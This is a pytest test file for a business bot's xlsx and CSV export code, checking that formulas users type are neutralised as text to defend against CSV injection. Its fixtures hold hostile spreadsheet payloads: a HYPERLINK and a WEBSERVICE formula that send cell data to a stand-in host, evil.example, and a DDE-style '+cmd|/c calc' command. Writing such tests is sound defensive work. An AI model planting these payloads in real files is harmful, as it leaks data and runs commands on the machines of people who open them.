"""Text people typed never becomes a live formula in an export (OWASP CSV injection): every table, as xlsx
and as CSV, shows it as text with a leading single quote; numbers stay numbers."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from fakes.cli import run
from openpyxl import load_workbook
from sqlalchemy import select

from domain.reporting.exports import write_table

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
WEBSERVICE = '=WEBSERVICE("http://evil.example/"&B2)'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet takes for the start of a formula


@pytest.fixture
def hostile(bot):
    """A department whose records carry formulas in every field people type."""
    bot("/team add hank role=head", "/team add mike role=manager supervisor=hank", "/team add lily role=legal",
        "/team add -bob role=sales supervisor=mike", "/team add @carol role=service",
        "/settings contractterms optional")
    bot("/customer new +SUM(1,2)", "/customer new @SUM(A1)", "/customer new -2+3")
    bot(f"/lead new C1 value=10 contact='{HYPERLINK}' step='{WEBSERVICE}' owner=-bob",
        "/lead new C3 value=1", "/lead stage L2 lost reason='+cmd|/c calc'")
    bot(f"/complaint new C2 severity=high what='{HYPERLINK}' wants='-1+1' contact='@SUM(1)' assignee=-bob",
        ":as -bob", f"/complaint solution Q1 '{WEBSERVICE}'")
    bot(":as wang", f"/contract new C1 title='{HYPERLINK}' amount=1000 term=2027-12-31", "/contract submit K1",
        ":as mike", "/approve A1", ":as lily", "/approve A1", ":as wang")
    return bot


def _exported(app) -> dict[str, bytes]:
    """The files /export sent, by file name without its time stamp (leads.xlsx, audit.csv…)."""
    from domain.store.models import OutboxAttachment

    with app.uow() as uow:
        return {a.filename.split("-", 1)[0] + "." + a.filename.rsplit(".", 1)[1]: bytes(a.data)
                for a in uow.session.scalars(
                    select(OutboxAttachment).where(OutboxAttachment.key.startswith("export:")))}


def _xlsx(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and not cell.value.startswith(FORMULA_STARTS), cell.value
    return [[c.value for c in row] for row in sheet.iter_rows()]


def _csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            if value.startswith(FORMULA_STARTS):
                Decimal(value)                                  # only a (negative) number may start with -
    return rows


def test_every_export_from_the_chat_shows_typed_formulas_as_text(hostile, app) -> None:
    for what in ("leads", "complaints", "ledger", "audit"):
        for fmt in ("xlsx", "csv"):
            assert "is on its way to you as a file" in hostile(f"/export {what} {fmt}"), (what, fmt)
            hostile(":advance 1m")                                      # one file a moment
    files = _exported(app)
    assert len(files) == 8
    leads = _xlsx(files["leads.xlsx"])
    (bobs,) = [r for r in leads if r[0] == "L1"]
    assert bobs[1] == "'+SUM(1,2)" and bobs[6] == "'-bob" and bobs[7] == "'" + HYPERLINK
    assert bobs[8] == "'" + WEBSERVICE and bobs[3] == 10 and isinstance(bobs[3], int | float)
    assert [r for r in leads if r[0] == "L2"][0][15] == "'+cmd|/c calc"
    assert [r[:8] for r in _csv(files["leads.csv"]) if r[0] == "L1"] == [
        ["L1", "'+SUM(1,2)", "market research", "10.00", "CNY", "", "'-bob", "'" + HYPERLINK]]
    for complaints in (_xlsx(files["complaints.xlsx"]), _csv(files["complaints.csv"])):
        q1 = complaints[1]
        assert q1[1] == "'@SUM(A1)" and q1[4] == "'" + HYPERLINK and q1[5] == "'-1+1"
        assert q1[6] == "'@SUM(1)" and q1[8] == "'-bob" and q1[17] == "'" + WEBSERVICE
    ledger = _xlsx(files["ledger.xlsx"])
    assert ledger[1][2:5] == ["'+SUM(1,2)", "'" + HYPERLINK, 1000]
    assert _csv(files["ledger.csv"])[1][2:5] == ["'+SUM(1,2)", "'" + HYPERLINK, "1000.00"]
    for audit in (_xlsx(files["audit.xlsx"]), _csv(files["audit.csv"])):
        cells = {value for row in audit for value in row}
        assert {"'-bob", "'@carol", "'+SUM(1,2)", "'-2+3"} <= cells


def test_reviews_export_shows_typed_formulas_as_text(hostile, db_url, tmp_path) -> None:
    hostile(":advance 7d", ":as -bob", *(f"/review self {n} 80" for n in range(1, 6)), "/review submit",
            ":as mike", f"/review score -bob 1 70 note='{HYPERLINK}'")
    env = {"BIZBOT_DATABASE_URL": db_url}
    out = run(["export", "reviews", "--period", "2026-11", "--as", "wang"], env=env)
    assert out.returncode == 0, out.stderr
    rows = _csv(out.stdout.encode("utf-8"))
    bob = [r for r in rows if r[1] == "'-bob"]
    assert bob and bob[0][9] == "'" + HYPERLINK
    target = tmp_path / "reviews.xlsx"
    out = run(["export", "reviews", "--period", "2026-11", "--as", "wang", "--format", "xlsx", "-o", str(target)],
              env=env)
    assert out.returncode == 0, out.stderr
    sheet = _xlsx(target.read_bytes())
    assert any(r[1] == "'-bob" and r[9] == "'" + HYPERLINK for r in sheet)


@pytest.mark.fast
def test_numbers_stay_numbers_and_odd_text_stays_text() -> None:
    rows = [[Decimal("-1250.50"), -3, "-3", "#N/A", "=1+1", "\t=1", "a\x07b", "plain"]]
    sheet = load_workbook(io.BytesIO(write_table(["a", "b", "c", "d", "e", "f", "g", "h"], rows, "xlsx",
                                                 money_columns=(0,)))).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [c.value for c in cells] == [-1250.5, -3, "'-3", "#N/A", "'=1+1", "'\t=1", "ab", "plain"]
    assert [c.data_type for c in cells] == ["n", "n", "s", "s", "s", "s", "s", "s"]
    assert _csv(write_table(["a"] * 8, rows, "csv"))[1] == ["-1250.50", "-3", "'-3", "#N/A", "'=1+1", "'\t=1",
                                                            "a\x07b", "plain"]
    assert _csv(write_table(["a"], [["\r=1"]], "csv"))[1] == ["'\r=1"]
